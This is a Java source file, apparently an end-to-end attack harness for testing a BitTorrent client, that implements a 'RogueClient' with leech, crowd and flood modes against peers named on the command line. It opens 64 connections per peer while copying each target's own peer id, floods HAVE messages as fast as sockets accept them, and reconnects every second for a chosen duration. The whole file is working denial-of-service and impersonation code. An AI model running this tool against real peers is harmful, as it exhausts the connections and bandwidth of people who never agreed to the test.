package dev.corvid.e2e.attack;

import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicLong;

/**
 * {@code RogueClient leech|crowd|flood HASH SECONDS HOST:PORT...} speaks BitTorrent (BEP 3, 10) to
 * peers that were not told of it: to read what they have, to fill the places of each with 64
 * connections, or to send messages over four as fast as they are taken. A crowd has the peer id of
 * whoever it speaks to.
 */
public final class RogueClient {
  private static final Duration PATIENCE = Duration.ofSeconds(5);
  private static final int CROWD = 64;
  private static final int FLOODS = 4;
  private static final int HANDSHAKE = 68;
  private static final int ID = 20;
  private static final int BLOCK = 16 << 10;
  private static final int BLOCKS = 256;
  private static final int MOST = 1 << 20;
  private static final byte INTERESTED = 2;
  private static final byte HAVE = 4;
  private static final byte REQUEST = 6;
  private static final byte EXTENDED = 20;

  private final String kind;
  private final byte[] hash;
  private final Duration time;
  private final AtomicLong answered = new AtomicLong();
  private final AtomicLong received = new AtomicLong();
  private final AtomicLong sent = new AtomicLong();
  private final AtomicLong closed = new AtomicLong();

  private RogueClient(String kind, String hash, Duration time) {
    this.kind = kind;
    this.hash = HexFormat.of().parseHex(hash);
    this.time = time;
  }

  /**
   * @param arguments see above
   */
  public static void main(String[] arguments) throws InterruptedException {
    var time = Duration.ofSeconds(Long.parseLong(arguments[2]));
    var client = new RogueClient(arguments[0], arguments[1], time);
    var conversations = new ArrayList<Callable<Void>>();
    for (var target : List.of(arguments).subList(3, arguments.length)) {
      for (int i = 0; i < client.connections(); i++) {
        conversations.add(() -> client.again(HostAndPort.of(target)));
      }
    }
    try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
      threads.invokeAll(conversations);
    }
    System.out.printf(
        "%d handshakes answered, %d bytes after them, %d messages sent, %d connections closed%n",
        client.answered.get(), client.received.get(), client.sent.get(), client.closed.get());
  }

  private int connections() {
    return switch (kind) {
      case "crowd" -> CROWD;
      case "flood" -> FLOODS;
      default -> 1;
    };
  }

  /** Reconnects whenever it is disconnected, a second later: the pace of the attack. */
  private Void again(InetSocketAddress address) throws InterruptedException {
    long end = System.nanoTime() + time.toNanos();
    byte[] id = "-ZZ0001-000000000000".getBytes(StandardCharsets.US_ASCII);
    while (System.nanoTime() < end) {
      try (var socket = new Socket()) {
        socket.connect(address, (int) PATIENCE.toMillis());
        socket.setSoTimeout((int) PATIENCE.toMillis());
        converse(socket, id, end);
      } catch (IOException e) {
        closed.incrementAndGet();
      }
      Thread.sleep(1000);
    }
    return null;
  }

  /**
   * @param id to show; the other side's is copied into it
   */
  private void converse(Socket socket, byte[] id, long end) throws IOException {
    var out = socket.getOutputStream();
    var in = new DataInputStream(socket.getInputStream());
    out.write(handshake(id));
    byte[] theirs = new byte[HANDSHAKE];
    in.readFully(theirs);
    answered.incrementAndGet();
    if (kind.equals("crowd")) {
      System.arraycopy(theirs, HANDSHAKE - ID, id, 0, ID);
    }
    var extended = "d1:md11:ut_metadatai1eee".getBytes(StandardCharsets.US_ASCII);
    send(out, EXTENDED, ByteBuffer.allocate(1 + extended.length).put((byte) 0).put(extended));
    send(out, INTERESTED, ByteBuffer.allocate(0));
    for (int i = 0; i < BLOCKS; i++) {
      send(out, REQUEST, ByteBuffer.allocate(12).putInt(0).putInt(i * BLOCK).putInt(BLOCK));
    }
    if (kind.equals("flood")) {
      flood(out, end);
    }
    while (System.nanoTime() < end) {
      int length = in.readInt();
      if (length < 0 || length > MOST) {
        throw new IOException("a frame of " + length);
      }
      in.skipNBytes(length);
      received.addAndGet(length);
    }
  }

  private byte[] handshake(byte[] id) {
    return ByteBuffer.allocate(HANDSHAKE)
        .put((byte) 19)
        .put("BitTorrent protocol".getBytes(StandardCharsets.US_ASCII))
        .put(new byte[] {0, 0, 0, 0, 0, 0x10, 0, 0})
        .put(hash)
        .put(id)
        .array();
  }

  private void flood(OutputStream out, long end) throws IOException {
    var many = ByteBuffer.allocate(9 * 1000);
    while (many.hasRemaining()) {
      many.putInt(5).put(HAVE).putInt(0);
    }
    while (System.nanoTime() < end) {
      out.write(many.array());
      sent.addAndGet(1000);
    }
  }

  private void send(OutputStream out, byte type, ByteBuffer body) throws IOException {
    out.write(
        ByteBuffer.allocate(5 + body.capacity())
            .putInt(1 + body.capacity())
            .put(type)
            .put(body.array())
            .array());
    sent.incrementAndGet();
  }
}
